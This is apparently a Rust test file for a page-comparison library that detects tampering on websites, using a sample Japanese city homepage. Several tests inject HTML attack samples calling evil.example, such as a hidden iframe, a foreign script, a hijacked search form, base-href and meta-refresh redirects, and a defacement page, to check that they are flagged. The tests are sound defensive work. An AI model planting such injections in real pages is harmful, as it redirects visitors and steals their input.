//! Comparison of real pages, from bytes to changes.

use hinomi::model::*;
use hinomi::{diff, parse, script};
use url::Url;

/// A parsed page with the reports on its scripts.
struct Read {
    page: Page,
    scripts: Vec<ScriptReport>,
}

impl Read {
    fn masked(html: &str, masks: &[Mask]) -> Self {
        let url = Url::parse("https://www.city.example/").expect("a URL");
        let options = parse::Options { url: Some(&url), masks, ..parse::Options::default() };
        let page = parse::page(html.as_bytes(), &options);
        let scripts = script::reports(&page);
        Self { page, scripts }
    }

    fn of(html: &str) -> Self {
        Self::masked(html, &[])
    }

    fn version(&self) -> Version<'_> {
        Version {
            page: &self.page,
            head: None,
            scripts: &self.scripts,
            url: None,
            resources: &[],
            signed: Signed::nothing(),
            approved_at: None,
        }
    }
}

/// A town's front page; `{…}` marks are replaced.
const FRONT: &str = r#"<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>例示市ホームページ</title>
<link rel="stylesheet" href="/css/main.css?v=20240401">
<script src="/js/jquery.min.js?ver=3.6.0"></script>
<script src="/assets/app.3f9c01d2.js" defer></script>
</head><body>
<header><h1><a href="/">例示市</a></h1><form action="/search" method="get"><input name="q"></form></header>
<main><ul id="news">
<li><a href="/news/3" onclick="track('news')">五月三日 図書館の休館日について</a></li>
<li><a href="/news/2" onclick="track('news')">五月二日 給水車の配置場所の一覧</a></li>
<li><a href="/news/1" onclick="track('news')">五月一日 防災訓練を行います</a></li>
</ul><div id="counter">あなたは<b>1000</b>人目の訪問者です</div></main>
<script>var builtAt = "2024-05-03";</script>
<footer><address>例示県例示市1-1 電話 000-000-0000</address></footer>
</body></html>"#;

fn compared(old: &str, new: &str) -> Difference {
    let (old, new) = (Read::of(old), Read::of(new));
    let made = diff::apply(&old.page, &diff::script(&old.page, &new.page)).expect("the script fits");
    // Not the plane: under another <base> the same link leads elsewhere.
    let bare = |node: &Node| (node.kind.clone(), node.parent, node.size, node.digest);
    assert!(made.iter().map(bare).eq(new.page.nodes.iter().map(bare)), "the script makes the new page");
    diff::compare(old.version(), new.version())
}

fn told(difference: &Difference) -> Vec<String> {
    difference.changes.iter().map(|change| format!("{:?} {:?} {}", change.kind, change.plane, change.path)).collect()
}

#[test]
fn the_same_page_written_otherwise_does_not_differ() {
    let other = FRONT.replace("><li>", ">\n\n  <li>").replace("charset=\"utf-8\"", "charset='utf-8'");
    assert!(compared(FRONT, &other).is_empty());
}

#[test]
fn a_day_of_ordinary_updates_leaves_the_active_plane_alone() {
    let item = r#"<li><a href="/news/4" onclick="track('news')">五月四日 市議会の日程を公表しました</a></li>"#;
    let next = FRONT
        .replace("<ul id=\"news\">", &format!("<ul id=\"news\">{item}"))
        .replace("ver=3.6.0", "ver=3.7.1")
        .replace("app.3f9c01d2.js", "app.77aa01bb.js")
        .replace("builtAt = \"2024-05-03\"", "builtAt = \"2024-05-04\"");
    let difference = compared(FRONT, &next);
    assert_eq!(difference.active, [], "{:?}", told(&difference));
    assert_eq!(difference.count(Plane::Active), 0, "{:?}", told(&difference));
    assert!(told(&difference).contains(&"Insert Content html > body > main > ul#news > li[1]".to_owned()));
    assert!(difference.text_kept > 0.95 && difference.nodes_kept > 0.95);
    assert_eq!(difference.bounded, None);
}

#[test]
fn attacks_are_changes_of_the_active_plane() {
    let attacks = [
        ("<header>", r#"<iframe src="//evil.example/x" width="1" height="1"></iframe><header>"#),
        ("</title>", r#"</title><script src="https://evil.example/ur.php"></script>"#),
        ("action=\"/search\"", "action=\"https://evil.example/search\""),
        ("<h1><a href=\"/\">", "<h1><a href=\"/\" onclick=\"location='https://evil.example/'\">"),
        ("builtAt = \"2024-05-03\";", "builtAt = \"2024-05-03\";document.write(unescape('%3Cscript%3E'));"),
        ("/js/jquery.min.js?ver=3.6.0", "/js/jquery.min.php?ver=3.6.0"),
        ("/assets/app.3f9c01d2.js", "https://evil.example/assets/app.77aa01bb.js"),
        ("<title>", "<base href=\"https://evil.example/\"><title>"),
        ("<title>", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><title>"),
        ("<div id=\"counter\">", "<div id=\"counter\"><embed src=\"/x.swf\">"),
    ];
    for (from, to) in attacks {
        let difference = compared(FRONT, &FRONT.replacen(from, to, 1));
        assert!(difference.active.iter().any(|change| change.new.is_some()), "{to}");
        let moved_base = to.contains("<base");
        assert!(difference.count(Plane::Active) > 0 || moved_base, "{to}: {:?}", told(&difference));
    }
}

#[test]
fn what_an_attack_replaces_is_known() {
    let difference = compared(FRONT, &FRONT.replace("action=\"/search\"", "action=\"https://evil.example/search\""));
    let [change] = difference.active.as_slice() else { panic!("{:?}", difference.active) };
    assert!(change.old.is_some() && change.new.is_some());
    let change = difference.changes.iter().find(|change| change.plane == Plane::Active).expect("an active change");
    assert_eq!(change.old_excerpt.as_deref(), Some("<form action=\"/search\">"));
    assert_eq!(change.new_excerpt.as_deref(), Some("<form action=\"https://evil.example/search\">"));
    assert_eq!(change.path, "html > body > header > form");
}

#[test]
fn a_mask_hides_the_counter_and_not_a_script_beside_it() {
    let masks = [Mask { select: "#counter".to_owned(), reason: "counter".to_owned() }];
    let read = |html: &str| Read::masked(html, &masks);
    let counted = FRONT.replace("<b>1000</b>", "<b>1001</b><i>!</i>");
    let (old, new) = (read(FRONT), read(&counted));
    assert!(diff::compare(old.version(), new.version()).is_empty());
    let injected = read(&counted.replace("<i>!</i>", "<i>!</i><script src=\"//evil.example/x.js\"></script>"));
    let difference = diff::compare(old.version(), injected.version());
    assert_eq!(told(&difference), ["Insert Active html > body > main > div#counter > script"]);
    assert_eq!(difference.active.len(), 1);
}

#[test]
fn a_replaced_page_keeps_next_to_nothing() {
    let difference =
        compared(FRONT, "<title>0wned</title><body bgcolor=black><center><h1>Hacked by nobody</h1></center>");
    assert!(difference.text_kept < 0.1, "{}", difference.text_kept);
    assert!(difference.nodes_kept < 0.3, "{}", difference.nodes_kept);
}
